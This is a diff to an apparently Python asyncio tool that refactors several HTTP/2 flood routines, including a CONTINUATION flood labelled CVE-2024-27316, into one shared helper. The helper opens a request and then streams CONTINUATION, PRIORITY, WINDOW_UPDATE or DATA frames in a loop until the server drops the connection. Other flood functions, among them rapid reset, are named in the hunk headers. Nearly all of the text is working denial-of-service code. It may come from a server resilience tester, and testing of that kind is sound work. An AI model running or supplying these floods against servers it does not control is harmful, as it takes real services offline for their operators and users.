@@ -75,23 +75,11 @@ async def rapid_reset(crowd, posed) -> None:
 
 async def continuation_flood(crowd, posed) -> None:
     """CVE-2024-27316."""
-    reader, writer = await connected(crowd)
-    drained = asyncio.create_task(closed(reader))
-    await crowd.say(writer, frame(HEADERS, 0, 1, post()))
-    while not drained.done():
-        await crowd.say(writer, frame(CONTINUATION, 0, 1, hpack_field(b"x", b"y" * 8000)))
-        posed()
-        await asyncio.sleep(BREATH_SECONDS)
+    await _flood(crowd, posed, 0, frame(CONTINUATION, 0, 1, hpack_field(b"x", b"y" * 8000)))
 
 
 async def empty_continuations(crowd, posed) -> None:
-    reader, writer = await connected(crowd)
-    drained = asyncio.create_task(closed(reader))
-    await crowd.say(writer, frame(HEADERS, 0, 1, post()))
-    while not drained.done():
-        await crowd.say(writer, frame(CONTINUATION, 0, 1) * 100)
-        posed()
-        await asyncio.sleep(BREATH_SECONDS)
+    await _flood(crowd, posed, 0, frame(CONTINUATION, 0, 1) * 100)
 
 
 async def control_flood(crowd, posed) -> None:
@@ -106,13 +94,18 @@ async def control_flood(crowd, posed) -> None:
 
 async def idle_frames(crowd, posed) -> None:
     """What no answer is owed to: priorities, windows by one byte, data without any."""
-    reader, writer = await connected(crowd)
-    drained = asyncio.create_task(closed(reader))
-    await crowd.say(writer, frame(HEADERS, END_HEADERS, 1, post()))
     words = frame(PRIORITY, 0, 3, b"\x00\x00\x00\x01\x10") + frame(WINDOW, 0, 0, b"\x00\x00\x00\x01")
     words += frame(DATA, 0, 1)
+    await _flood(crowd, posed, END_HEADERS, words * 50)
+
+
+async def _flood(crowd, posed, flags: int, words: bytes) -> None:
+    """Begins one request, and then the words without end."""
+    reader, writer = await connected(crowd)
+    drained = asyncio.create_task(closed(reader))
+    await crowd.say(writer, frame(HEADERS, flags, 1, post()))
     while not drained.done():
-        await crowd.say(writer, words * 50)
+        await crowd.say(writer, words)
         posed()
         await asyncio.sleep(BREATH_SECONDS)
 
